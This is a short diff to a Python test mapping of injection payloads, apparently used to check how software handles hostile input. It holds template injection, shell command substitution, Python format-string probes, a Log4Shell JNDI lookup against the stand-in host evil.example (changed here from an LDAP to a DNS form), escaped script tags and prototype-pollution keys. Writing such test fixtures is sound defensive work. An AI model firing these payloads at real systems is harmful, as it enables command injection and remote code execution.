@@ -122,7 +122,7 @@ LANGUAGES: Mapping[str, str] = {
     "a template of a framework": "{{constructor.constructor('alert(1)')()}}",
     "a command of a shell": "$(touch /tmp/portal-was-here) `id` ; id | id && id",
     "a format of Python": "{0.__class__} %s %n",
-    "a lookup of a logger": "${jndi:ldap://evil.example/x}",
+    "a lookup of a logger": "${jndi:dns:evil.example}",
     "a quotation mark and a backslash": "\\\" \\' \\u003cscript\\u003e",
     "a key of JavaScript": "__proto__",
     "a word of JavaScript": "constructor",
